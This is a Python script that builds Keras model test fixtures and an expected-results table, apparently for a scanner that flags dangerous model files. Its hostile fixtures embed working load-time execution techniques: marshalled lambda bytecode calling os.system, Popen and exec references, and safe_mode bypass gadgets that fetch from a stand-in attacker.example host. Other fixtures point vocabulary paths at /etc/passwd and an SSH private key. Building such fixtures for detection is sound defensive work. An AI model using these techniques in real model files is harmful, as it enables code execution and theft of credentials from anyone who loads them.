#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Write the Keras fixtures of this folder and expected.tsv.

Needs Debian's python3-h5py and python3-numpy. Keras itself is not packaged, so .keras
archives are put together as keras/src/saving/saving_lib.py writes them: a stored zip of
metadata.json, config.json (serialize_keras_object output) and model.weights.h5 (h5py, one
group per layer); legacy .h5 models carry the model_config attribute as the Keras 2 legacy
saver sets it with h5py. Hostile ones carry one technique each (Lambda bytecode, modules
outside Keras, safe_mode gadgets, TorchModuleWrapper, code members).
Run: /usr/bin/python3 gen-keras.py [OUTDIR]
"""
import copy
import io
import json
import os
import sys
import zipfile

import h5py
import numpy as np

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
rows = []


def obj(module, cls, config, registered=None, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    d.update(extra)
    return d


POLICY = obj("keras", "DTypePolicy", {"name": "float32"})


def dense(name, units):
    return obj("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": POLICY, "units": units,
        "activation": "relu", "use_bias": True,
        "kernel_initializer": obj("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": obj("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_config={"input_shape": [None, 4]})


def sequential(layers):
    return obj("keras", "Sequential", {
        "name": "sequential", "trainable": True, "dtype": POLICY,
        "layers": [obj("keras.layers", "InputLayer", {"batch_shape": [None, 4],
                                                      "dtype": "float32", "sparse": False,
                                                      "name": "input_layer"})] + layers,
        "build_input_shape": [None, 4]},
        build_config={"input_shape": [None, 4]},
        compile_config={
            "optimizer": obj("keras.optimizers", "Adam", {"name": "adam",
                                                          "learning_rate": 0.001}),
            "loss": obj("keras.src.losses.losses", "function", "mean_squared_error",
                        "mean_squared_error"),
            "metrics": None, "loss_weights": None, "run_eagerly": False})


def weights_h5(layers):
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for i, units in enumerate(layers):
            g = f.create_group("layers/dense%s/vars" % ("" if i == 0 else "_%d" % i))
            g.create_dataset("0", data=np.ones((4, units), np.float32))
            g.create_dataset("1", data=np.zeros((units,), np.float32))
        f.create_group("optimizer/vars")
    return buf.getvalue()


METADATA = json.dumps({"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"})


def keras_zip(name, config, rules, extra=None, raw_config=None):
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_STORED) as z:
        z.writestr("metadata.json", METADATA)
        z.writestr("config.json", raw_config if raw_config is not None else json.dumps(config))
        z.writestr("model.weights.h5", weights_h5([2]))
        for fn, data in (extra or {}).items():
            z.writestr(fn, data)
    rows.append((name, rules))


def legacy_h5(name, config, rules, libver="earliest", extra=0, training=None, raw=None):
    with h5py.File(os.path.join(OUT, name), "w", libver=libver) as f:
        f.attrs["keras_version"] = b"2.12.0"
        f.attrs["backend"] = b"tensorflow"
        for i in range(extra):
            f.attrs["note_%d" % i] = "attribute %d" % i
        f.attrs["model_config"] = raw if raw is not None else json.dumps(config).encode("utf8")
        if training is not None:
            f.attrs["training_config"] = json.dumps(training).encode("utf8")
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = np.array([b"dense"])
        g = mw.create_group("dense/dense")
        g.create_dataset("kernel:0", data=np.ones((4, 2), np.float32))
    rows.append((name, rules))


MODEL = sequential([dense("dense", 2)])
# base64 of marshal.dumps((lambda x: __import__('os').system('id')).__code__) from
# Python 3.11, as python_utils.func_dump stores it.
CODE = ("4wEAAAAAAAAAAAAAAAMAAAADAAAA80YAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAFMAKQNO2gJvc9oCaWQpAtoKX19pbXBvcnRfX9oGc3lz"
        "dGVtKQHaAXhzAQAAACD6CDxzdHJpbmc++gg8bGFtYmRhPnIIAAAAAwAAAHMcAAAAgAC1Crg00TBA1DBA1zBH"
        "0jBHyATRME3UME2AAPMAAAAA")


def with_layer(layer):
    m = copy.deepcopy(MODEL)
    m["config"]["layers"].append(layer)
    return m


# ---- benign ----
keras_zip("ok_sequential.keras", MODEL, "-")
legacy_h5("ok_legacy.h5", {"class_name": "Sequential", "config": {
    "name": "sequential", "layers": [{"class_name": "Dense", "config": {
        "name": "dense", "units": 2, "activation": "relu"}}]}}, "-")
with open(os.path.join(OUT, "ok_weights_only.weights.h5"), "wb") as f:
    f.write(weights_h5([2, 3]))
rows.append(("ok_weights_only.weights.h5", "-"))

# ---- hostile ----
keras_zip("lambda_bytecode.keras", with_layer(obj("keras.layers", "Lambda", {
    "name": "lambda", "trainable": True, "dtype": POLICY,
    "function": {"class_name": "__lambda__", "config": {"value": [CODE, None, None]}},
    "arguments": {}})), "keras.lambda")
keras_zip("module_outside.keras", with_layer(obj("subprocess", "Popen", {"args": ["id"]})),
          "keras.module.untrusted")
keras_zip("gadget_get_file.keras", with_layer(obj("keras.layers", "Lambda", {
    "name": "lambda", "dtype": POLICY,
    "function": obj("keras.src.utils.file_utils", "function", "get_file", "get_file"),
    "arguments": {"fname": "x", "origin": "https://attacker.example/payload.keras"}})),
    "keras.lambda,keras.function.gadget,keras.config.path")
keras_zip("gadget_unsafe.keras", with_layer(obj("keras.layers", "Lambda", {
    "name": "lambda", "dtype": POLICY,
    "function": obj("keras.src.saving.serialization_lib", "function",
                    "enable_unsafe_deserialization", "enable_unsafe_deserialization")})),
    "keras.lambda,keras.function.gadget")
keras_zip("torch_wrapper.keras", with_layer(obj("keras.layers", "TorchModuleWrapper", {
    "name": "torch_module_wrapper", "module": "gASVAAAAAAAAAAA="})), "keras.torch_module")
keras_zip("custom_object.keras", with_layer(obj("my_package.layers", "MyLayer", {
    "name": "mine"}, "MyPackage>MyLayer")), "keras.object.custom")
keras_zip("function_outside.keras", with_layer(obj("keras.layers", "Activation", {
    "name": "act", "activation": obj("builtins", "function", "exec", "exec")})),
    "keras.module.untrusted")
keras_zip("code_member.keras", MODEL, "exec.code.member",
          extra={"assets/hook.py": "import os\nos.system('id')\n"})
keras_zip("config_invalid.keras", None, "keras.config.invalid",
          raw_config='{"module": "keras", "class_name": "Sequential", "config": {')
with open(os.path.join(OUT, "model_json_lambda.json"), "w") as f:
    json.dump(with_layer({"class_name": "Lambda", "config": {
        "name": "lambda", "function": [CODE, None, None], "function_type": "lambda",
        "module": "__main__"}}), f)
rows.append(("model_json_lambda.json", "keras.lambda,keras.module.untrusted"))
legacy_h5("legacy_lambda.h5", {"class_name": "Sequential", "config": {
    "name": "sequential", "layers": [
        {"class_name": "Dense", "config": {"name": "dense", "units": 2}},
        {"class_name": "Lambda", "config": {"name": "lambda", "function": [CODE, None, None],
                                            "function_type": "lambda",
                                            "module": "__main__"}}]}},
    "keras.lambda,keras.module.untrusted")

# ---- layers and config values that load something else ----
keras_zip("ok_lookup_inline.keras", with_layer(obj("keras.layers", "StringLookup", {
    "name": "lookup", "trainable": False, "dtype": "int64", "max_tokens": None,
    "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
    "vocabulary": ["cat", "dog", "bird"], "idf_weights": None, "encoding": "utf-8",
    "invert": False, "output_mode": "int", "sparse": False, "pad_to_max_tokens": False,
    "vocabulary_dtype": "string"})), "-")
keras_zip("tfsm_layer.keras", with_layer(obj("keras.layers", "TFSMLayer", {
    "name": "tfsm", "trainable": False, "dtype": POLICY, "filepath": "/tmp/exported_model",
    "call_endpoint": "serve", "call_training_endpoint": None})),
    "keras.layer.external,keras.config.path")
keras_zip("lookup_vocab_path.keras", with_layer(obj("keras.layers", "StringLookup", {
    "name": "lookup", "dtype": "int64", "num_oov_indices": 1, "oov_token": "[UNK]",
    "vocabulary": "/etc/passwd", "output_mode": "int"})), "keras.config.path")
keras_zip("vectorize_vocab_climb.keras", with_layer(obj("keras.layers", "TextVectorization", {
    "name": "vectorize", "max_tokens": 1000, "standardize": "lower_and_strip_punctuation",
    "split": "whitespace", "output_mode": "int",
    "vocabulary": "../../home/user/.ssh/id_rsa"})), "keras.config.path")
keras_zip("tokenizer_remote.keras", with_layer(obj("keras_nlp.src.tokenizers.sentence_piece_tokenizer",
    "SentencePieceTokenizer", {"name": "tok", "proto": "gs://attacker-bucket/spm.model",
                               "sequence_length": None}, "keras_nlp>SentencePieceTokenizer")),
    "keras.config.path")
keras_zip("config_url_value.keras", with_layer(obj("keras.layers", "Dense", {
    "name": "dense_url", "units": 2, "activation": "relu",
    "kernel_initializer": obj("keras.initializers", "Constant",
                              {"value": "https://attacker.example/weights.bin"})})),
    "keras.config.path")
keras_zip("registered_outside.keras", with_layer(obj("keras.layers", "Dense", {
    "name": "dense_reg", "units": 2}, "evil_package>Dense")), "keras.module.untrusted")
with open(os.path.join(OUT, "gadget_output_shape.json"), "w") as f:
    json.dump(with_layer({"class_name": "Lambda", "config": {
        "name": "lambda", "function": "identity", "function_type": "function",
        "module": "keras.backend", "output_shape": "get_file",
        "output_shape_type": "function", "output_shape_module": "keras.utils",
        "arguments": {}}}), f)
rows.append(("gadget_output_shape.json", "keras.lambda,keras.function.gadget"))
legacy_h5("hub_layer.h5", {"class_name": "Sequential", "config": {
    "name": "sequential", "layers": [
        {"class_name": "KerasLayer", "config": {
            "name": "keras_layer", "trainable": False, "dtype": "float32",
            "handle": "https://tfhub.dev/google/imagenet/mobilenet_v2_100_224/feature_vector/5"}},
        {"class_name": "Dense", "config": {"name": "dense", "units": 2}}]}},
    "keras.layer.external,keras.config.path")

# HDF5 read as libhdf5 reads it: dense attribute storage (libver latest, more than 8
# attributes), keys in any order, training_config, and files that cannot be read.
legacy_h5("legacy_lambda_dense.h5", {"config": {"name": "sequential", "layers": [
    {"config": {"name": "lambda", "function": [CODE, None, None], "function_type": "lambda",
                "module": "__main__"}, "class_name": "Lambda"}]}, "class_name": "Sequential"},
    "keras.lambda,keras.module.untrusted", libver="latest", extra=12)
legacy_h5("training_gadget.h5", {"class_name": "Sequential", "config": {"name": "s",
                                                                        "layers": []}},
    "keras.function.gadget", libver="latest",
    training={"loss": {"module": "keras.src.saving.serialization_lib", "class_name": "function",
                       "config": "enable_unsafe_deserialization"}, "metrics": []})
legacy_h5("config_not_json.h5", None, "keras.config.invalid", raw=b'{"class_name": "Seq')
with open(os.path.join(OUT, "ok_legacy.h5"), "rb") as f:
    whole = f.read()
with open(os.path.join(OUT, "truncated.h5"), "wb") as f:
    f.write(whole[:whole.index(b"GCOL") + 16])
rows.append(("truncated.h5", "keras.h5.invalid"))

with open(os.path.join(OUT, "expected.tsv"), "w") as f:
    f.write("# fixture\texpected rules (comma-separated), or - for nothing above info\n")
    for name, rules in rows:
        f.write("%s\t%s\n" % (name, rules))
